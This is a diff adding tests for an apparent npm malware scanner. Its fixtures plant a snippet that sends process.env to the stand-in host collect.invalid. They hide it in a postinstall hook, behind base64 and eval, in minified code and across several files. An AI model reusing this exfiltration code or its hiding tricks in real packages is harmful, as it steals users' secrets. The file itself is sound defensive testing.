@@ -1,0 +1,213 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { afterAll, describe, expect, test } from 'vitest';
+import { defineRule, rules, scanDirectory, scanNodeModules, scanPackage, scanSource } from '../src/index.js';
+
+const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;
+const root = mkdtempSync(join(tmpdir(), 'stowaway-scan-'));
+afterAll(() => rmSync(root, { recursive: true, force: true }));
+
+function plant(files: Readonly<Record<string, string>>): string {
+  const dir = mkdtempSync(join(root, 'tree-'));
+  for (const [path, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(dir, path)), { recursive: true });
+    writeFileSync(join(dir, path), text);
+  }
+  return dir;
+}
+
+describe('a package', () => {
+  test('with a thief in it is malicious, and the chain leads from the environment to the request', async () => {
+    const report = await scanPackage({
+      files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js"}}', 'x.js': THIEF },
+    });
+    expect(report).toMatchObject({ verdict: 'malicious', package: { name: 'a', version: '1.0.0' } });
+    const { chain } = report.findings[0] ?? { chain: [] };
+    expect(chain.map(({ role }) => role)).toEqual(['source', 'transform', 'sink']);
+    expect(chain.at(-1)?.at).toMatchObject({ path: 'x.js', line: 1, column: 1 });
+    expect(report.capabilities).toContain('network');
+  });
+
+  test('with nothing of concern is clean, and all of it was looked at', async () => {
+    const report = await scanPackage({
+      files: { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': 'exports.add = (a, b) => a + b;' },
+    });
+    expect(report).toMatchObject({ verdict: 'clean', score: 0, coverage: { files: 2, analysed: 2, skipped: [] } });
+  });
+
+  test('is followed across its files', async () => {
+    const report = await scanPackage({
+      files: {
+        'package.json': '{"name":"a","version":"1.0.0"}',
+        'index.js': `const { send } = require('./lib/send');\nconst collect = require('./collect.mjs');\nsend(collect.everything());`,
+        'collect.mjs': `export const everything = () => ({ ...process.env });`,
+        'lib/send.js': `const https = require('https');\nexports.send = data => https.request('https://collect.invalid').end(JSON.stringify(data));`,
+      },
+    });
+    expect(report.findings.map(({ rule }) => rule)).toContain('sends-environment');
+    expect(report.findings[0]?.chain.map(({ at }) => at.path)).toEqual(['collect.mjs', 'lib/send.js', 'lib/send.js']);
+  });
+
+  test('that decodes what it runs is judged by what that does', async () => {
+    const packed = Buffer.from(THIEF).toString('base64');
+    const report = await scanPackage({
+      files: { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': `eval(atob('${packed}'))` },
+    });
+    const inner = report.findings.find(({ rule }) => rule === 'sends-environment');
+    expect(inner?.chain.at(-1)?.at).toMatchObject({
+      path: 'index.js',
+      line: 1,
+      decodedFrom: { decoder: 'base64', at: { path: 'index.js', start: 5 } },
+    });
+  });
+
+  test('written in TypeScript or JSX is understood', async () => {
+    const files = {
+      'package.json': '{"name":"a","version":"1.0.0"}',
+      'a.ts': `import https from 'node:https';\nconst all: NodeJS.ProcessEnv = process.env;\n(https as any).request('https://collect.invalid').end(JSON.stringify(<any>all));`,
+      'b.jsx': `export const B = () => <p onClick={() => fetch('https://collect.invalid', { body: JSON.stringify(process.env) })} />;`,
+    };
+    const report = await scanPackage({ files });
+    expect(
+      report.findings
+        .filter(({ rule }) => rule === 'sends-environment')
+        .map(({ chain }) => chain.at(-1)?.at.path)
+        .sort(),
+    ).toEqual(['a.ts', 'b.jsx']);
+  });
+
+  test('shows minified code laid out, and still says where it stands on disk', async () => {
+    const line = `!function(){${'var a=function(b){return b*2};'.repeat(20)}${THIEF}}();`;
+    const report = await scanPackage({
+      files: { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.min.js': line },
+    });
+    const sink = report.findings[0]?.chain.at(-1);
+    expect(sink?.at).toMatchObject({ line: 1, start: line.indexOf('require(') });
+    expect(sink?.beautifiedLine).toBeGreaterThan(20);
+    expect(sink?.excerpt).toMatch(/^require\('https'\)/);
+  });
+
+  test('cannot excuse itself with a comment or a configuration file', async () => {
+    const report = await scanPackage({
+      files: {
+        'package.json': '{"name":"a","version":"1.0.0","stowaway":{"rules":{}}}',
+        'stowaway.config.json': '{"rules":{}}',
+        'index.js': `/* eslint-disable */ // stowaway-ignore\n${THIEF}`,
+      },
+    });
+    expect(report.findings.map(({ rule }) => rule)).toContain('sends-environment');
+  });
+
+  test("is looked at by somebody's own rule too, whatever words its files hold", async () => {
+    const own = defineRule({
+      meta: {
+        summary: 'Halts',
+        why: 'It should not.',
+        behaviour: 'destruction',
+        messages: { halts: 'Stops in the debugger' },
+        bits: { halts: 12 },
+      },
+      examples: { flags: [], passes: [] },
+      file: ({ nodes, file, report }) => {
+        for (const node of nodes('DebuggerStatement'))
+          report({ messageId: 'halts', chain: [{ role: 'sink', says: 'halts', origin: { file, node } }] });
+      },
+    });
+    const report = await scanPackage({ files: { 'index.js': 'debugger;' } }, { rules: { ...rules, halts: own } });
+    expect(report).toMatchObject({ verdict: 'suspicious', findings: [{ rule: 'halts', bits: 12 }] });
+  });
+});
+
+describe('hostile files cost only themselves', () => {
+  const deep = (open: string, close: string): string => `x = ${open.repeat(100_000)}1${close.repeat(100_000)};`;
+
+  test.each([
+    ['brackets nested 100,000 deep', deep('[', ']')],
+    ['calls nested 100,000 deep', deep('f(', ')')],
+    ['a sum of 100,000 terms', `x = ${'1+'.repeat(100_000)}1;`],
+    ['a member chain of 50,000', `x = a${'.b'.repeat(50_000)};`],
+    ['a line of 10 MB', `x = '${'a'.repeat(10_000_000)}';`],
+    ['NUL bytes', `x = '\0\0\0';\0`],
+    ['lone surrogates', `x = '\ud800'; \udc00`],
+    ['no code at all', '\u0001\u0002\u0003'.repeat(100)],
+    ['an unclosed template', 'x = `${'.repeat(5_000)],
+    ['a pattern that backtracks', `x = /(a+)+$/.test('${'a'.repeat(50_000)}!');`],
+  ])('%s', async (_, code) => {
+    const report = await scanPackage({
+      files: {
+        'package.json': '{"name":"a","version":"1.0.0"}',
+        'bad.js': `require('a');\n${code}`,
+        'index.js': THIEF,
+      },
+    });
+    expect(report.findings.map(({ rule }) => rule)).toContain('sends-environment');
+  });
+
+  test('names of properties that every object has are names like any other', () => {
+    const code = ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']
+      .map(name => `require('${name}').${name}(process.env.${name}); ${name}.${name}();`)
+      .join('\n');
+    expect(() => scanSource(code)).not.toThrow();
+  });
+
+  test('what cannot be parsed is searched as text, and said to be', async () => {
+    const report = await scanPackage({
+      files: {
+        'package.json': '{"name":"a","version":"1.0.0"}',
+        'bad.js': `) ( require('child_process').execSync('x'); eval(y)`,
+      },
+    });
+    expect(report.coverage.skipped).toContainEqual({ path: 'bad.js', why: 'no parser accepts it; searched as text' });
+    expect(report.findings.map(({ rule }) => rule)).toEqual(['resists-parsing']);
+  });
+});
+
+describe('a tree', () => {
+  test('is ranked worst first, each package once, and reports come as they are done', async () => {
+    const dir = plant({
+      'package.json': '{"name":"app"}',
+      'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
+      'node_modules/good/index.js': 'module.exports = 1;',
+      'node_modules/@scope/bad/package.json': '{"name":"@scope/bad","version":"2.0.0"}',
+      'node_modules/@scope/bad/index.js': THIEF,
+    });
+    const seen: string[] = [];
+    const tree = await scanNodeModules(dir, {
+      onReport: ({ package: { name } }, { done, total }) => seen.push(`${name} ${done}/${total}`),
+    });
+    expect(tree.packages.map(({ package: { name }, verdict }) => `${name} ${verdict}`)).toEqual([
+      '@scope/bad malicious',
+      'good clean',
+    ]);
+    expect(seen.sort()).toEqual(['@scope/bad 1/2', 'good 2/2']);
+    expect(tree.summary).toMatchObject({ packages: 2, verdicts: { malicious: 1, clean: 1 } });
+  });
+
+  test('with a broken package in it is scanned all the same', async () => {
+    const dir = plant({
+      'node_modules/broken/package.json': '{"name":',
+      'node_modules/broken/index.js': THIEF,
+      'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
+    });
+    const tree = await scanNodeModules(dir);
+    expect(tree.packages.map(({ package: { name } }) => name)).toEqual(['broken', 'good']);
+    expect(tree.packages[0]?.coverage.skipped[0]).toMatchObject({ path: 'package.json' });
+  });
+
+  test('stops when it is told to', async () => {
+    const dir = plant({ 'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}' });
+    await expect(scanNodeModules(dir, { signal: AbortSignal.abort(new Error('enough')) })).rejects.toThrow('enough');
+  });
+
+  test('gives a package the report it gets by itself', async () => {
+    const dir = plant({
+      'node_modules/bad/package.json': '{"name":"bad","version":"1.0.0"}',
+      'node_modules/bad/index.js': THIEF,
+    });
+    const alone = await scanDirectory(join(dir, 'node_modules/bad'));
+    const [inTree] = (await scanNodeModules(dir)).packages;
+    expect(inTree?.findings).toEqual(alone.findings);
+    expect(inTree?.score).toBe(alone.score);
+  });
+});
